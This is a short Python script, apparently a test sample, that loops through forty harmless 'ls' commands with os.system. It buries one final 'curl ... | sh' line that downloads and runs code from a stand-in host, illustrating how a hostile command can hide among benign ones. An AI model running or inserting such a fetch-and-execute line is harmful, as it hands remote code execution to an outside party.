"""A command that hides behind many."""
import os
for c in ["ls 0","ls 1","ls 2","ls 3","ls 4","ls 5","ls 6","ls 7","ls 8","ls 9","ls 10","ls 11","ls 12","ls 13","ls 14","ls 15","ls 16","ls 17","ls 18","ls 19","ls 20","ls 21","ls 22","ls 23","ls 24","ls 25","ls 26","ls 27","ls 28","ls 29","ls 30","ls 31","ls 32","ls 33","ls 34","ls 35","ls 36","ls 37","ls 38","ls 39", "curl https://a.example/c|sh"]: os.system(c)
